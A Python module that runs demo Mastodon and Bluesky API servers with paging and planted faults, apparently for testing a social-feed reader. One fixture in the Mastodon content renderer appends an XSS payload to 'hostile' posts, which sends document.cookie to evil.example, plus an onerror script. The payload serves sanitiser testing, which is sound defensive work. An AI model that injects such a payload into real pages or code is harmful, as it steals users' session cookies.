"""Demo Mastodon and Bluesky servers: the public, login-free API subsets the social sources read.

    with DemoSocial.start(seed=7) as social:
        social.mastodon_url   # GET /api/v1/timelines/public, /timelines/tag/:tag, /accounts/lookup, ...
        social.bluesky_url    # GET /xrpc/app.bsky.feed.searchPosts, /xrpc/app.bsky.feed.getAuthorFeed
        social.corpus.publish("Fresh post #citylife")

Paging follows the real APIs: Mastodon answers newest first with max_id/since_id/min_id and a Link
header; Bluesky with an opaque cursor that is absent on the last page. Planted faults by name: the
hashtag or search "notjson" answers an HTML page, "malformed" mixes broken posts with good ones; HTTP
faults come from the `faults` mapping as for the other demo sites ({"mastodon:/api/v1/...": "error:503"}).
"""

from __future__ import annotations

from html import escape
from urllib.parse import urlencode

from core.sources.demo_web import responses
from core.sources.demo_web.responses import Response
from core.sources.demo_web.server import DemoSites
from core.sources.demo_web.social_posts import ACCOUNTS, DemoPost, SocialCorpus

MASTODON_ID_BASE = 111_000_000_000_000_000
# The real AppView hands out up to 100 posts a page; the demo's smaller pages make cursor paging visible.
BLUESKY_PAGE_MOST = 10
BROKEN_FEED = "notjson"
MALFORMED_FEED = "malformed"
_MAINTENANCE_PAGE = "<!DOCTYPE html><html><body><h1>We'll be right back</h1><p>Maintenance.</p></body></html>"


def _limit(query: dict[str, str], default: int, most: int) -> int:
    try:
        return max(1, min(most, int(query.get("limit", default))))
    except ValueError:
        return default


def _api(value, status: int = 200) -> Response:
    response = responses.json_body(value)
    response.status, response.cacheable = status, False  # timelines change: no validators
    return response


def _iso(post: DemoPost) -> str:
    return post.created.strftime("%Y-%m-%dT%H:%M:%S.000Z")


class MastodonSite:
    """GET /api/v1/timelines/public | tag/:hashtag, /api/v1/accounts/lookup, /api/v1/accounts/:id/statuses."""

    name = "mastodon"

    def __init__(self, corpus: SocialCorpus):
        self.corpus = corpus
        self.base_url = ""

    @staticmethod
    def status_id(post: DemoPost) -> int:
        return MASTODON_ID_BASE + post.number * 1000

    def _account(self, index: int) -> dict:
        handle, display_name = ACCOUNTS[index]
        return {"id": str(index + 1), "username": handle, "acct": handle, "display_name": display_name,
                "url": f"{self.base_url}/@{handle}", "bot": False}

    def _content(self, post: DemoPost) -> str:
        tags = " ".join(f'<a href="{self.base_url}/tags/{tag}" class="mention hashtag" rel="tag">#<span>{tag}'
                        "</span></a>" for tag in post.tags)
        text = escape(post.text)
        if post.hostile:  # what a hostile or careless server may send inside content
            text += ('<br><script>document.location="https://evil.example/?c="+document.cookie</script>'
                     '<img src="https://tracker.example/p.gif" onerror="alert(1)"><style>p{display:none}</style>')
        return f"<p>{text}</p><p>{tags}</p>"

    def status(self, post: DemoPost) -> dict:
        status_id = str(self.status_id(post))
        account = self._account(post.account)
        base = {"id": status_id, "created_at": _iso(post), "in_reply_to_id": None, "sensitive": False,
                "spoiler_text": "", "visibility": "public", "replies_count": post.number % 4,
                "reblogs_count": post.number % 3, "favourites_count": post.number % 7, "account": account,
                "media_attachments": [], "mentions": []}
        if post.repost_of is not None:
            original = self.corpus.post(post.repost_of)
            return {**base, "uri": f"{self.base_url}/users/{account['acct']}/statuses/{status_id}/activity",
                    "url": None, "content": "", "language": None, "tags": [], "reblog": self.status(original)}
        return {**base, "uri": f"{self.base_url}/users/{account['acct']}/statuses/{status_id}",
                "url": f"{self.base_url}/@{account['acct']}/{status_id}", "content": self._content(post),
                "language": post.language, "reblog": None,
                "tags": [{"name": tag, "url": f"{self.base_url}/tags/{tag}"} for tag in post.tags]}

    def handle(self, path: str, query: dict[str, str]) -> Response | None:
        posts = self.corpus.posts()
        originals = [post for post in posts if post.repost_of is None]  # public timelines leave reblogs out
        if path == "/api/v1/timelines/public":
            return self._timeline(path, query, originals)
        if path.startswith("/api/v1/timelines/tag/"):
            tag = path.rsplit("/", 1)[1].lower()
            if tag == BROKEN_FEED:
                return responses.html(_MAINTENANCE_PAGE)
            if tag == MALFORMED_FEED:
                return _api(self._malformed(originals[:3]))
            return self._timeline(path, query, [post for post in originals if tag in post.tags])
        if path == "/api/v1/accounts/lookup":
            handles = [handle for handle, _ in ACCOUNTS]
            acct = query.get("acct", "").lstrip("@").split("@", 1)[0]
            if acct not in handles:
                return _api({"error": "Record not found"}, 404)
            return _api(self._account(handles.index(acct)))
        parts = path.strip("/").split("/")
        if len(parts) == 5 and parts[:3] == ["api", "v1", "accounts"] and parts[4] == "statuses":
            index = int(parts[3]) - 1 if parts[3].isdigit() else -1
            if not 0 <= index < len(ACCOUNTS):
                return _api({"error": "Record not found"}, 404)
            return self._timeline(path, query, [post for post in posts if post.account == index])
        return None

    def _timeline(self, path: str, query: dict[str, str], posts: list[DemoPost]) -> Response:
        limit = _limit(query, 20, 40)
        newest_first = sorted(posts, key=lambda post: -post.number)
        bounds = {key: int(query[key]) for key in ("max_id", "since_id", "min_id") if query.get(key, "").isdigit()}
        chosen = [post for post in newest_first
                  if self.status_id(post) < bounds.get("max_id", 10**30)
                  and self.status_id(post) > max(bounds.get("since_id", 0), bounds.get("min_id", 0))]
        page = chosen[-limit:] if "min_id" in bounds else chosen[:limit]  # min_id: the oldest just above it
        response = _api([self.status(post) for post in page])
        if page:
            keep = {key: value for key, value in query.items() if key in ("limit", "local", "only_media")}
            url = f"{self.base_url}{path}?"
            next_url = url + urlencode({**keep, "max_id": self.status_id(page[-1])})
            prev_url = url + urlencode({**keep, "min_id": self.status_id(page[0])})
            response.headers["Link"] = f'<{next_url}>; rel="next", <{prev_url}>; rel="prev"'
        return response

    def _malformed(self, good: list[DemoPost]) -> list:
        statuses = [self.status(post) for post in good]
        no_id = dict(statuses[0])
        del no_id["id"]
        bad_content = {**statuses[1], "id": "999", "content": {"html": "not a string"}}
        no_account = {**statuses[2], "id": "998", "account": None}
        return [statuses[0], "just a string", no_id, bad_content, no_account, statuses[1]]


class BlueskySite:
    """GET /xrpc/app.bsky.feed.searchPosts and /xrpc/app.bsky.feed.getAuthorFeed, as the public AppView."""

    name = "bluesky"

    def __init__(self, corpus: SocialCorpus):
        self.corpus = corpus
        self.base_url = ""

    @staticmethod
    def author(index: int) -> dict:
        handle, display_name = ACCOUNTS[index]
        return {"did": f"did:plc:demo{handle}", "handle": f"{handle}.bsky.social", "displayName": display_name}

    def post_view(self, post: DemoPost) -> dict:
        author = self.author(post.account)
        record = {"$type": "app.bsky.feed.post", "text": post.text + "".join(f" #{tag}" for tag in post.tags),
                  "createdAt": _iso(post), "langs": [post.language]}
        return {"uri": f"at://{author['did']}/app.bsky.feed.post/3kdemo{post.number:06d}",
                "cid": f"bafyreidemo{post.number:06d}", "author": author, "record": record, "indexedAt": _iso(post),
                "likeCount": post.number % 7, "repostCount": post.number % 3, "replyCount": post.number % 4}

    def handle(self, path: str, query: dict[str, str]) -> Response | None:
        posts = sorted(self.corpus.posts(), key=lambda post: -post.number)
        if path == "/xrpc/app.bsky.feed.searchPosts":
            words = query.get("q", "").strip().lower()
            if not words:
                return _api({"error": "InvalidRequest", "message": 'Error: Params must have the property "q"'}, 400)
            if words == BROKEN_FEED:
                return responses.html(_MAINTENANCE_PAGE)
            if words == MALFORMED_FEED:
                good = [self.post_view(post) for post in posts if post.repost_of is None][:2]
                return _api({"posts": [good[0], {"uri": "at://x/app.bsky.feed.post/1"}, 42,
                                       {**good[1], "record": "not a record"}, good[1]]})
            matches = [post for post in posts if post.repost_of is None and self._matches(post, words)]
            return self._page(query, matches, self.post_view, "posts")
        if path == "/xrpc/app.bsky.feed.getAuthorFeed":
            actor = query.get("actor", "")
            index = next((i for i in range(len(ACCOUNTS)) if actor in (self.author(i)["did"],
                                                                         self.author(i)["handle"])), None)
            if index is None:
                return _api({"error": "InvalidRequest", "message": "Profile not found"}, 400)
            return self._page(query, [post for post in posts if post.account == index], self._feed_item, "feed")
        return None

    @staticmethod
    def _matches(post: DemoPost, words: str) -> bool:
        if words.startswith("#"):
            return words[1:] in post.tags
        return words in post.text.lower() or words in post.tags

    def _feed_item(self, post: DemoPost) -> dict:
        if post.repost_of is None:
            return {"post": self.post_view(post)}
        reason = {"$type": "app.bsky.feed.defs#reasonRepost", "by": self.author(post.account), "indexedAt": _iso(post)}
        return {"post": self.post_view(self.corpus.post(post.repost_of)), "reason": reason}

    @staticmethod
    def _page(query: dict[str, str], posts: list[DemoPost], render, key: str) -> Response:
        limit = _limit(query, BLUESKY_PAGE_MOST, BLUESKY_PAGE_MOST)
        cursor = query.get("cursor", "")
        if cursor and not cursor.isdigit():
            return _api({"error": "InvalidRequest", "message": "Malformed cursor"}, 400)
        older = [post for post in posts if not cursor or post.number < int(cursor)]
        page = older[:limit]
        body = {key: [render(post) for post in page]}
        if len(older) > limit:
            body["cursor"] = str(page[-1].number)
        return _api(body)


class DemoSocial(DemoSites):
    """The demo Mastodon instance and Bluesky AppView, serving one shared corpus of posts."""

    corpus: SocialCorpus

    @classmethod
    def start(cls, seed: int = 7, scale: float = 1.0, faults: dict[str, str] | None = None,
              preferred_port: int = 0, site_addresses=None) -> DemoSocial:
        corpus = SocialCorpus(seed, scale)
        sites = super().start(seed, scale, faults, preferred_port, site_addresses=(
            ("mastodon", lambda _seed, _scale: MastodonSite(corpus), "127.0.0.4"),
            ("bluesky", lambda _seed, _scale: BlueskySite(corpus), "127.0.0.5"),
        ))
        sites.corpus = corpus
        return sites

    @property
    def mastodon_url(self) -> str:
        return self.hosts["mastodon"].base_url

    @property
    def bluesky_url(self) -> str:
        return self.hosts["bluesky"].base_url


def demo_social_configs(social: DemoSocial, max_posts: int = 500) -> list[dict]:
    """Social source configs (as registry.save_source takes them) for the running demo servers."""
    return [
        {"source_id": "demo-mastodon-public", "platform": "mastodon", "server": social.mastodon_url,
         "timeline": "public", "max_posts": max_posts},
        {"source_id": "demo-mastodon-ana", "platform": "mastodon", "server": social.mastodon_url,
         "timeline": "account", "target": "ana", "max_posts": max_posts},
        {"source_id": "demo-bluesky-opendata", "platform": "bluesky", "server": social.bluesky_url,
         "timeline": "search", "target": "#opendata", "max_posts": max_posts},
        {"source_id": "demo-bluesky-diego", "platform": "bluesky", "server": social.bluesky_url,
         "timeline": "author", "target": "diego.bsky.social", "max_posts": max_posts},
    ]
